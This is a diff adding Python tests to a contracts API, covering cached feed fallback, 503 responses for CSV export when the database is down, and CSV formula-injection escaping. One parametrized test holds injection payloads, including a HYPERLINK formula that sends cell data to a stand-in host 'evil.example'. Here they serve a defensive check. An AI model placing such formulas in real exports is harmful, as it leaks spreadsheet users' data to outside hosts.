@@ -9,6 +9,8 @@ PostgreSQL URL nothing listens on, which fails the same way on either run.
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from collections.abc import AsyncIterator
 
 import httpx
@@ -390,3 +392,66 @@ async def test_last_good_copies_take_a_bounded_number_of_slots(cache: ResilientC
     if isinstance(cache.backend, MemoryCache):
         slots = [k for k in cache.backend._data if k.startswith(stale.STALE_PREFIX)]
         assert len(slots) <= stale.STALE_SLOTS
+
+
+# --- found by the second round's fresh tester --------------------------------------------
+
+
+async def test_the_feed_keeps_its_own_last_good_copy_never_the_lists(
+    settings: Settings, seeded: Database, cache: ResilientCache
+) -> None:
+    async for http in _client(settings, seeded, cache):
+        fresh = await http.get("/feeds/contracts.atom")
+        assert fresh.status_code == 200
+        # The list behind the feed, also kept: the feed must not answer with it.
+        list_view = ContractFilters(sort="-date_issued", size=50).query_string()
+        assert (await http.get(f"/api/v1/contracts?{list_view}")).status_code == 200
+    await cache.incr(GENERATION_KEY)
+    dead = Database.from_url(DEAD_POSTGRES)
+    try:
+        async for http in _client(settings, dead, cache):
+            feed = await http.get("/feeds/contracts.atom")
+            assert feed.status_code == 200
+            assert feed.headers["content-type"].startswith("application/atom+xml")
+            assert feed.headers["warning"].startswith("110")
+            assert feed.content == fresh.content
+            # A feed view nobody read before has nothing to fall back on.
+            other = await http.get("/feeds/contracts.atom?region_id=10000002")
+            assert other.status_code == 503
+            assert other.json()["error"] == "database_unavailable"
+    finally:
+        await dead.dispose()
+
+
+async def test_a_csv_export_with_the_database_down_is_a_503_not_a_cut_200(
+    settings: Settings, seeded: Database, cache: ResilientCache
+) -> None:
+    async for http in _client(settings, seeded, cache):
+        # The list of the same view is cached and kept; the export must not answer with it.
+        assert (await http.get("/api/v1/contracts")).status_code == 200
+    await cache.incr(GENERATION_KEY)
+    dead = Database.from_url(DEAD_POSTGRES)
+    try:
+        async for http in _client(settings, dead, cache):
+            export = await http.get("/api/v1/contracts.csv")
+            assert export.status_code == 503
+            assert export.headers["retry-after"] == "5"
+            assert export.json()["error"] == "database_unavailable"
+    finally:
+        await dead.dispose()
+
+
+@pytest.mark.parametrize(
+    "title", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)"]
+)
+async def test_a_csv_export_never_hands_a_spreadsheet_a_formula(
+    client: httpx.AsyncClient, database: Database, title: str
+) -> None:
+    await seed_universe(database)
+    await add(database, build_contract(title=title, items=[Item(RIFTER)], price=5e6))
+    export = await client.get("/api/v1/contracts.csv")
+    assert export.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(export.text)))
+    assert [row["title"] for row in rows] == ["'" + title]
+    # Numbers are left alone, negative ones included.
+    assert float(rows[0]["price"]) == 5e6
